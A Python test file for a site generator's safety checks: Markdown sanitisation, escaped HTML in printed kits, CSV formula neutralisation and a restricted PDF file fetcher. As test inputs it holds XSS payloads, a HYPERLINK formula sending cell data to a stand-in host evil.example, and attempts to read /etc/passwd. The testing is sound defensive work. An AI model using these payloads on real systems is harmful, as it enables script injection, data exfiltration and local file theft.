"""One Markdown policy: the check reads contributed text with the renderer and extensions that build the site, the
kits print it with the same renderer, and the open data cannot run a formula or load a file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import yaml

from generator import export, markup
from generator.kits.fetcher import safe_fetcher
from generator.kits.render import markdown as kit_markdown


def test_the_check_renders_with_the_sites_extensions(root: Path) -> None:
    config = yaml.safe_load((root / "mkdocs.yml").read_text(encoding="utf-8"))
    policy = markup.Policy.from_config(config)
    names = [next(iter(e)) if isinstance(e, dict) else e for e in config["markdown_extensions"]]
    assert [item if isinstance(item, str) else item[0][0] for item in policy.extensions] == names
    # the default (used when mkdocs.yml cannot be read) renders like the configured policy
    sample = "Tekst met **vet**\n{: .x }\n\n| a |\n| - |\n| b |\n\n!!! note\n    n\n\nTerm\n: uitleg"
    assert markup.render(sample, policy)[0] == markup.render(sample)[0]


@pytest.mark.parametrize(
    "text",
    [
        'Een alinea.\n{: onclick="alert(1)" }',
        '[x](https://example.org){: href="javascript:alert(1)" }',
        "Tekst <img src=x onerror=alert(1)>",
        '!!! note "<b onmouseover=alert(1)>t</b>"\n    n',
    ],
)
def test_what_the_check_refuses_it_sees_in_the_rendered_html(text: str) -> None:
    html, raw = markup.render(text)
    assert raw or "alert(1)" in html  # the renderer really would put it on the page ...
    assert list(markup.check(text)), text  # ... and the check refuses it


def test_kits_print_raw_html_as_text_and_links_like_the_site() -> None:
    printed = str(kit_markdown("Tekst <img src=x onerror=alert(1)> en [een link](https://example.org)."))
    assert "<img" not in printed and "&lt;img src=x onerror=alert(1)&gt;" in printed
    assert '<a href="https://example.org">een link</a>' in printed


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+31 1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "＝1+1"]
)
def test_csv_cells_never_start_a_formula(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([export.cell(value)])
    cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
    assert cell == "'" + value  # shown as text, the value itself kept


def test_csv_cells_that_are_not_formulas_stay_as_they_are() -> None:
    assert [export.cell(v) for v in ("Utrecht", 2014, "", None, "a=b")] == ["Utrecht", "2014", "", "", "a=b"]


def test_weasyprint_loads_only_the_kits_own_files(tmp_path: Path) -> None:
    from weasyprint import HTML

    own = tmp_path / "assets"
    own.mkdir()
    (own / "ok.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>', encoding="utf-8")
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM-1234", encoding="utf-8")
    fetcher = safe_fetcher([own])
    html = (
        f'<img src="{secret.as_uri()}"><img src="/etc/hostname"><img src="https://example.org/x.png">'
        '<img src="ok.svg"><link rel="stylesheet" href="file:///etc/passwd"><p>tekst</p>'
    )
    pdf = HTML(string=html, base_url=own.as_uri() + "/", url_fetcher=fetcher).write_pdf()
    assert b"GEHEIM-1234" not in pdf
    assert sorted(fetcher.allow.refused) == sorted(
        [secret.as_uri(), "file:///etc/hostname", "https://example.org/x.png", "file:///etc/passwd"]
    )
